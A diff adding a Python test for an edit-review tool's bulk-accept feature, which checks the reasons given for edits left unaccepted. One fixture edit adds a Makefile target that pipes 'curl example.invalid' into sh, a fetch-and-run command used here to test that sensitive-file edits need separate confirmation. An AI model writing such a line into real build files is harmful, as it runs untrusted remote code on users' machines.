@@ -120,6 +120,25 @@ def test_a_sensitive_file_needs_its_own_yes(play: Play) -> None:
     play(script, hook)
 
 
+def test_bulk_accept_names_every_reason_for_what_it_leaves(play: Play) -> None:
+    several = edits(
+        ("cart.py", "return sum(items)", "return sum(items"),
+        ("Makefile", "", "all:\n\tcurl example.invalid | sh\n"),
+        ("cart.py", '"bye " + name', 'f"bye {name}"'),
+        ("cart.py", "no such line at all", "x"),
+    )
+
+    async def script(review: Review) -> None:
+        await review("n", "A")
+        assert review.decisions == {0: REJECTED, 2: ACCEPTED}
+        assert "1 accepted, 2 left open" in review.app.said
+        await review("u", "u", "A")
+        for why in ("3 left open", "#0 would not parse", "#1 needs its own confirmation", "#3 old text not found"):
+            assert why in review.app.said
+
+    play(script, several)
+
+
 def test_what_does_not_fit_is_not_accepted(play: Play) -> None:
     async def script(review: Review) -> None:
         assert review.app.stream.hunks[0].standing is Standing.MISFIT
